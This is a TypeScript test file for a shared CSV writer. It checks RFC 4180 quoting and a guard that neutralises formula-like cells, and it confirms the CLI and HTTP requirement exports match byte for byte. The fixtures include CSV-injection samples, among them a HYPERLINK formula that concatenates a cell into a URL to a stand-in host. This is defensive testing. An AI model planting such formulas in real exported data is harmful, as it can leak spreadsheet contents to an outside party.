/**
 * The one CSV writer (RFC 4180 with the formula guard) and its two users: the CLI's `requirementsToCsv`
 * (analysis layer) and the HTTP `requirementsCsv` stream (service layer) write the same bytes for the same
 * requirements, formula-like document text included.
 */
import { csvDocument, csvField, csvRecord, csvStream } from '../../shared/common/csv.ts';
import { extractRequirements, requirementsToCsv } from '../../shared/analysis/requirements.ts';
import { requirementsCsv } from '../../shared/service/analyses/queries.ts';
import type { AnalysisResult } from '../../shared/analysis/schema.ts';

test.each([
  ['plain', 'plain'],
  ['a,b', '"a,b"'],
  ['say "yes"', '"say ""yes"""'],
  ['a\nb', '"a\nb"'],
  ['a\r\nb', '"a\r\nb"'],
  // Formula-like cells stay text in a spreadsheet (CSV injection, OWASP).
  ['=HYPERLINK("http://x/?"&A1)', '"\'=HYPERLINK(""http://x/?""&A1)"'],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['+1', "'+1"],
  ['-1', "'-1"],
  ['\t=1', "'\t=1"],
  ['\r=1', '"\'\r=1"'],
  ['', ''],
])('the field %j is written %j', (value, written) => {
  expect(csvField(value)).toBe(written);
});

test('numbers are written as they are, never guarded; a non-finite number is empty', () => {
  expect(csvField(-3)).toBe('-3');
  expect(csvField(2.5)).toBe('2.5');
  expect(csvField(Number.NaN)).toBe('');
  expect(csvRecord(['a', 1, '=b'])).toBe("a,1,'=b\r\n");
});

test('a document and a stream of the same rows are the same bytes', async () => {
  const rows = [
    ['x', 1],
    ['-y', 'a "b", c'],
  ];
  let streamed = '';
  for await (const record of csvStream(['h1', 'h2'], rows)) streamed += record;
  expect(streamed).toBe('h1,h2\r\nx,1\r\n\'-y,"a ""b"", c"\r\n');
  expect(csvDocument(['h1', 'h2'], rows)).toBe(streamed);
});

test('the CLI matrix and the HTTP matrix write the same CSV, through the one guard', async () => {
  const markdown =
    '# 1 Scope\n\nThe Contractor shall say "yes, now" within 30 days.\n\n' +
    '## 1.2 Billing\n\n=SUM(A1) The vendor must invoice by 15 March 2027.\n\n' +
    '@cmd The supplier shall not log, store, or forward data.\n';
  const requirements = extractRequirements({ markdown });
  expect(requirements.length).toBeGreaterThanOrEqual(3);
  const cli = requirementsToCsv(requirements);
  let http = '';
  const result = { kind: 'requirements', requirements } as unknown as AnalysisResult;
  for await (const record of requirementsCsv(result)) http += record;
  expect(http).toBe(cli);
  expect(cli).toContain(`,'=SUM(A1) The vendor must invoice by 15 March 2027.,`);
  expect(cli).toContain(`,"'@cmd The supplier shall not log, store, or forward data.",`);
  expect(cli).not.toMatch(/(^|,)[=@]/m);
});
